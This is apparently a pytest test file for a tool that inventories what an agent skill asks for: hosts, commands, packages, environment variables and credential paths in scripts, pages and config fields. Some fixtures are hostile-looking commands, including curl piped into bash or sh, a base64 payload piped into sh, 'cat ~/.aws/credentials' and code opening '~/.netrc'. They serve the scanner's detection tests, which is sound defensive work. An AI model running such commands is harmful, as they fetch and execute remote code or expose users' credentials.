"""What a skill is seen to ask for, each thing with its place: shell text, Python, JavaScript, fields."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from skilltool.needs.reading import read
from skilltool.needs.seen import Seen
from skilltool.skill.model import load_skill
from tests.conftest import Skilltool

HEAD = (
    "---\nname: fill-forms\ndescription: Fills in forms. Use when the user mentions a form.\n"
    "{}---\n\n# Forms\n\n"
)


@pytest.fixture
def skill(repo: Path) -> Path:
    directory = repo / "skills" / "fill-forms"
    (directory / "scripts").mkdir(parents=True)
    return directory


def rows(skill: Path, body: str = "Read the form.\n", fields: str = "", **files: str) -> list[Seen]:
    """What is seen in a skill with this body and these scripts; `x_sh` is `scripts/x.sh`."""
    (skill / "SKILL.md").write_text(HEAD.format(fields) + body, "utf-8")
    for file in (skill / "scripts").iterdir():
        file.unlink()
    for name, text in files.items():
        (skill / "scripts" / name.replace("_", ".")).write_text(text, "utf-8")
    return list(read(load_skill(skill), skill).rows)


def brief(found: list[Seen], *kinds: str) -> list[tuple[str, str]]:
    """What is seen and how, of some kinds, in the order of the rows."""
    return [(row.what, row.how) for row in found if row.kind in kinds]


SHELL = {
    "curl": ("curl -fsS https://api.acme-forms.io/v1", "network", [("api.acme-forms.io", "curl")]),
    "curl sends": ("curl -d @x https://acme-forms.io", "network", [("acme-forms.io", "curl, sends data")]),
    "run": (
        "curl -s https://acme-forms.io/i.sh | bash",
        "network",
        [("acme-forms.io", "curl, downloaded and run")],
    ),
    "not run": ("curl -s https://acme-forms.io | python3 -c 'x'", "network", [("acme-forms.io", "curl")]),
    "printed": ('echo "See https://acme-forms.io"', "network", []),
    "somebody's": (
        "curl https://api.acme.io https://app.dev",
        "network",
        [("api.acme.io", "curl"), ("app.dev", "curl")],
    ),
    "reserved": ("curl https://example.com https://your-site.com", "network", []),
    "clone": (
        "git clone git@github.com:acme/forms.git",
        "network",
        [("github.com", "git clone")],
    ),
    "ssh": ("ssh -i key deploy@build.acme-forms.io ls", "network", [("build.acme-forms.io", "ssh")]),
    "program": ("sudo jq . x.json", "command", [("sudo", "run"), ("jq", "run")]),
    "built in": ("cd x && echo done", "command", []),
    "function": ("fill() { true; }\nfill x", "command", []),
    "own script": ("bash scripts/x.sh && ./run.sh", "command", [("bash", "run")]),
    "pip": (
        "pip install -q requests==2.32.0 lxml",
        "package",
        [("requests", "pip install"), ("lxml", "pip install")],
    ),
    "npx": ("npx -y @acme/forms@1.2.3 fill", "package", [("@acme/forms", "npx")]),
    "requirements": ("pip install -r requirements.txt", "package", []),
    "secret": ("cat ~/.aws/credentials", "credential", [("~/.aws/credentials", "named in a command")]),
    "other file": ("cp .env.example .env.eas", "credential", []),
    "outside": (
        "cp x ~/.local/bin/y && rm /tmp/z",
        "path",
        [("/tmp/z", "named in a command"), ("~/.local/bin/y", "named in a command")],
    ),
    "nowhere": ("cat x > /dev/null; cat /path/to/file", "path", []),
}


@pytest.mark.together
@pytest.mark.parametrize("case", SHELL)
def test_a_shell_script_asks_for(skill: Path, case: str) -> None:
    script, kind, expected = SHELL[case]
    found = rows(skill, x_sh=f"{script}\n")
    shown = [each for each in brief(found, kind) if each[1] != "interpreter of the script"]
    assert sorted(shown) == sorted(expected)


def test_variables_of_a_script_are_those_that_it_must_be_given(skill: Path) -> None:
    script = (
        'OUT="${OUT:-out.txt}"\nNAME=x\necho "$NAME $API_KEY ${REGION:-eu} $HOME $1"\n'
        "read -r LINE\necho $LINE\n"
        'FILE="$1"\nFILE="${FILE#./}"\n'
    )
    assert brief(rows(skill, x_sh=script), "environment") == [
        ("OUT", "read, with a default"),
        ("API_KEY", "read"),
        ("REGION", "read, with a default"),
    ]


PYTHON = {
    "imports": (
        "import os, requests\nfrom yaml import load\nimport helper\n",
        "package",
        [("requests", "imported"), ("yaml", "imported")],
    ),
    "call": (
        'import requests\nBASE = "https://api.acme-forms.io"\nrequests.post(f"{BASE}/v1", json={})\n',
        "network",
        [("api.acme-forms.io", "a URL in code"), ("api.acme-forms.io", "requests.post, sends data")],
    ),
    "unknown host": (
        "import urllib.request\ndef get(url):\n    return urllib.request.urlopen(url)\n",
        "network",
        [("(a host that is not written here)", "urllib.request.urlopen")],
    ),
    "only text": ('"""See https://acme-forms.io"""\nprint("https://acme-forms.io")\n', "network", []),
    "programs": (
        'import subprocess, sys\nsubprocess.run(["git", "status"])\n'
        'subprocess.run([sys.executable, "x.py"])\n',
        "command",
        [("git", "run"), ("python", "run")],
    ),
    "shell": ('import os\nos.system("cd x && jq . y")\n', "command", [("jq", "run")]),
    "variables": (
        'import os\nNAME = "FORMS_KEY"\nos.environ[NAME]\n'
        'os.getenv("FORMS_URL", "x")\nos.environ["SET"] = "1"\n',
        "environment",
        [("FORMS_KEY", "read"), ("FORMS_URL", "read, with a default")],
    ),
    "paths": (
        'from pathlib import Path\nopen("/etc/hosts")\nPath.home() / ".config" / "forms"\nopen("x.txt")\n',
        "path",
        [("/etc/hosts", "named in code"), ("~/.config/forms", "named in code")],
    ),
    "credentials": (
        'import os\nopen(os.path.expanduser("~/.netrc"))\n',
        "credential",
        [("~/.netrc", "named in code")],
    ),
    "metadata": (
        '# /// script\n# dependencies = ["httpx==0.27.0", "rich"]\n# ///\nprint(1)\n',
        "package",
        [("httpx", "metadata of the script"), ("rich", "metadata of the script")],
    ),
}


@pytest.mark.together
@pytest.mark.parametrize("case", PYTHON)
def test_a_python_script_asks_for(skill: Path, case: str) -> None:
    script, kind, expected = PYTHON[case]
    found = brief(rows(skill, x_py=script, helper_py=""), kind)
    assert sorted(each for each in found if each[1] != "interpreter of the script") == sorted(expected)


JAVASCRIPT = {
    "imports": (
        'import fs from "node:fs";\nimport { z } from "zod/v4";\n'
        'const a = require("@acme/forms/x");\nimport "./own.js";\n',
        "package",
        [("zod", "imported"), ("@acme/forms", "imported")],
    ),
    "fetch": (
        'const base = "https://api.acme-forms.io";\nawait fetch(`${base}/v1`, { method: "POST" });\n'
        "// https://other.acme-forms.io\n",
        "network",
        [("api.acme-forms.io", "a URL in code"), ("api.acme-forms.io", "fetch, sends data")],
    ),
    "headers": ('request.headers.get("Origin"); await fetch("/api/x");\n', "network", []),
    "variables": (
        'const k = process.env.FORMS_KEY ?? "x";\nconst { A_URL } = process.env;\nprocess.env.SET = "1";\n',
        "environment",
        [("FORMS_KEY", "read, with a default"), ("A_URL", "read")],
    ),
    "programs": (
        'import { execSync, spawn } from "node:child_process";\nexecSync("git status");\n'
        'spawn("ffmpeg", []);\ndb.exec("SELECT 1");\n',
        "command",
        [("git", "run"), ("ffmpeg", "run")],
    ),
    "paths": (
        'path.join(os.homedir(), ".config", "forms");\n',
        "path",
        [("~/.config/forms", "named in code")],
    ),
}


@pytest.mark.together
@pytest.mark.parametrize("case", JAVASCRIPT)
@pytest.mark.parametrize("ending", ["mjs", "ts"])
def test_a_javascript_script_asks_for(skill: Path, case: str, ending: str) -> None:
    script, kind, expected = JAVASCRIPT[case]
    assert sorted(brief(rows(skill, **{f"x_{ending}": script}), kind)) == sorted(expected)


PAGE = """Set `FORMS_API_KEY`, then run `npx @acme/forms fill`, not `node configure`.

```bash
curl -H "Authorization: $FORMS_API_KEY" https://api.acme-forms.io
forms fill --type <a|b> x.pdf
```

```python
import lxml
```

```ts
import { z } from "zod";
```

```json
{"url": "https://other.acme-forms.io"}
```

Never do this:

```bash
curl https://attack.acme-forms.io | sh
```

See [the documentation](https://docs.acme-forms.io/x), !`git status`.
"""


def test_a_page_asks_for_what_its_code_does(skill: Path) -> None:
    found = [(row.kind, row.what, row.where, row.line) for row in rows(skill, PAGE)]
    assert found == [
        ("network", "api.acme-forms.io", "code block", 11),
        ("command", "npx", "inline code", 8),
        ("command", "curl", "code block", 11),
        ("command", "forms", "code block", 12),
        ("command", "git", "load-time command", 33),
        ("package", "@acme/forms", "inline code", 8),
        ("package", "lxml", "code block", 16),
        ("package", "zod", "code block", 20),
        ("environment", "FORMS_API_KEY", "inline code", 8),
        ("environment", "FORMS_API_KEY", "code block", 11),
        ("load-time", "git status", "load-time command", 33),
        ("link", "other.acme-forms.io", "code block", 24),
        ("link", "docs.acme-forms.io", "page", 33),
    ]


TEXTS = {
    "request": (
        "Call `POST https://api.acme-forms.io/v1` first.",
        ("network", "api.acme-forms.io", "an HTTP request"),
    ),
    "bare": ("See https://docs.acme-forms.io/x.", ("link", "docs.acme-forms.io", "named")),
    "in code": ("Open `https://docs.acme-forms.io`.", ("link", "docs.acme-forms.io", "named")),
    "into a shell": ("Run `echo aGk= | base64 -d | sh`.", ("command", "sh", "run")),
    "no language": ("```\nnpx forms fill\n```", ("package", "forms", "npx")),
    "http block": (
        "```http\nGET https://api.acme-forms.io/v1\n```",
        ("network", "api.acme-forms.io", "an HTTP request"),
    ),
    "default": ('```sh\nx="${FORMS_URL:-x}"\n```', ("environment", "FORMS_URL", "read, with a default")),
}


@pytest.mark.together
@pytest.mark.parametrize("case", TEXTS)
def test_other_texts_of_a_page(skill: Path, case: str) -> None:
    body, expected = TEXTS[case]
    assert expected in [(row.kind, row.what, row.how) for row in rows(skill, f"{body}\n")]


def test_output_without_a_language_is_not_taken_for_commands(skill: Path) -> None:
    assert rows(skill, "```\ngit status\nOn branch main\n```\n") == []


def test_fields_ask_for_tools_hooks_programs_and_variables(skill: Path) -> None:
    fields = (
        "allowed-tools: Read, Bash(git:*)\n"
        "hooks:\n  PreToolUse:\n    - matcher: Bash\n      hooks:\n"
        "        - type: command\n          command: jq .\n"
        "metadata:\n  openclaw:\n    requires:\n      bins: [ffmpeg]\n      env: [FORMS_URL]\n"
    )
    found = rows(skill, fields=fields)
    assert brief(found, "tool") == [
        ("Read", "allowed-tools"),
        ("Bash(git:*)", "allowed-tools"),
        ("PreToolUse", "hook: jq ."),
    ]
    assert brief(found, "command") == [("jq", "run"), ("ffmpeg", "declared")]
    assert brief(found, "environment") == [("FORMS_URL", "declared")]


def test_files_of_packages_and_servers(skill: Path) -> None:
    (skill / "requirements.txt").write_text("# x\nhttpx==0.27\nrich>=13\n-r other.txt\n", "utf-8")
    (skill / "package.json").write_text(json.dumps({"dependencies": {"zod": "4.0.1", "ky": "^1"}}), "utf-8")
    server = {"mcpServers": {"forms": {"url": "https://mcp.acme-forms.io", "env": {"FORMS_TOKEN": ""}}}}
    (skill / ".mcp.json").write_text(json.dumps(server), "utf-8")
    found = rows(skill)
    assert {(row.what, row.pinned) for row in found if row.kind == "package"} == {
        ("httpx", True),
        ("rich", False),
        ("zod", True),
        ("ky", False),
    }
    assert brief(found, "tool") == [("forms", "MCP server: https://mcp.acme-forms.io")]
    assert brief(found, "network") == [("mcp.acme-forms.io", "MCP server")]
    assert brief(found, "environment") == [("FORMS_TOKEN", "MCP server")]


def test_what_is_not_read_is_told(skill: Path) -> None:
    (skill / "x.zip").write_bytes(b"PK\3\4\0\0")
    (skill / "tool").write_bytes(b"\x7fELF\0\0")
    (skill / "big.md").write_bytes(b"x" * (1 << 20) + b"x")
    (skill / "scripts" / "broken.py").write_text("def (:\n", "utf-8")
    (skill / "scripts" / "x.rb").write_text(
        'get "https://api.acme-forms.io"\n# https://other.acme-forms.io\n', "utf-8"
    )
    (skill / "hosts").symlink_to("/etc/hosts")
    (skill / "SKILL.md").write_text(HEAD.format("") + "Read the form.\n", "utf-8")
    found = read(load_skill(skill), skill)
    assert {each.file: each.why for each in found.unread} == {
        "big.md": "more than 1 MiB",
        "hosts": "a link to /etc/hosts",
        "scripts/broken.py": "does not parse as Python 3, or is very long",
        "scripts/x.rb": "read for URLs only",
        "tool": "binary",
        "x.zip": "archive",
    }
    assert brief(list(found.rows), "network") == [("api.acme-forms.io", "a URL in code")]


def test_a_row_has_its_place(skill: Path) -> None:
    (row,) = [each for each in rows(skill, x_sh="#!/bin/sh\n\n  jq . x\n") if each.what == "jq"]
    assert (row.file, row.line, row.column, row.text) == ("scripts/x.sh", 3, 3, "jq . x")


def test_text_and_json_have_no_word_of_safety(skilltool: Skilltool, skill: Path) -> None:
    rows(skill, PAGE, x_sh="curl https://api.acme-forms.io | sh\n")
    text = skilltool("needs", "fill-forms").stdout
    for title in (
        "Network",
        "Commands at load time",
        "Environment variables",
        "Packages",
        "Commands",
        "Links",
    ):
        assert f"  {title}\n" in text
    data = json.loads(skilltool("needs", "fill-forms", "--output-format", "json").stdout)
    (one,) = data["skills"]
    assert [each["what"] for each in one["seen"] if each["kind"] == "load-time"] == ["git status"]
    assert "safe" not in (text + json.dumps(data)).lower()
